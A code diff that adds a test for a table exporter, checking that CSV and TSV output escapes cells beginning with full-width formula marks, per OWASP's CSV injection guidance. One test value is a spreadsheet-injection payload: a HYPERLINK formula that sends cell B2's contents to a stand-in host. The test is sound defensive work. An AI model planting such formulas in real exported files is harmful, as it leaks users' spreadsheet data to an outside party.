@@ -154,6 +154,19 @@ describe("a table as CSV, TSV and Markdown", () => {
     expect(md).toContain(` | ${"<a".repeat(50_000)} |`);
   });
 
+  // OWASP's CSV Injection list: the full-width marks may start a formula in Japanese locales.
+  it("makes a cell starting with a full-width formula mark text in CSV and TSV", async () => {
+    const marks = ["\uff1dHYPERLINK(\"http://x.invalid/?d=\"&B2)", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1,1)"];
+    const table: ParsedTable = { ...awkward, header: [], rows: [row(cell("a"), cell("b"), cell("c"), cell("d")), row(...marks.map((text) => cell(text)))] };
+    const columns = "columns = {'a': 'VARCHAR', 'b': 'VARCHAR', 'c': 'VARCHAR', 'd': 'VARCHAR'}";
+    const csv = await readBack(tableCsv(table), "wide.csv", `${columns}, delim = ',', quote = '"', escape = '"', strict_mode = true`);
+    expect(csv[1]).toEqual(marks.map((text) => `'${text}`));
+    const tsv = await readBack(tableTsv(table), "wide.tsv", `${columns}, delim = '\t', quote = '', escape = ''`);
+    expect(tsv[1]).toEqual(marks.map((text) => `'${text}`));
+    // Full-width letters and digits inside a cell are left as they are.
+    expect(spreadsheetText("\uff21\uff11 \uff1d 2")).toBe("\uff21\uff11 \uff1d 2");
+  });
+
   it("gives a table with no header an empty header line, and one printed as a picture a line saying its cells cannot be read", () => {
     expect(tableMarkdown({ ...awkward, label: null, caption: null, header: [], rows: [row(cell("a"), cell("b"))], footnotes: [] })).toBe("|  |  |\n| --- | --- |\n| a | b |\n");
     expect(tableCsv({ header: [], rows: [row(cell("a"), cell("b"))] })).toBe("a,b\r\n");
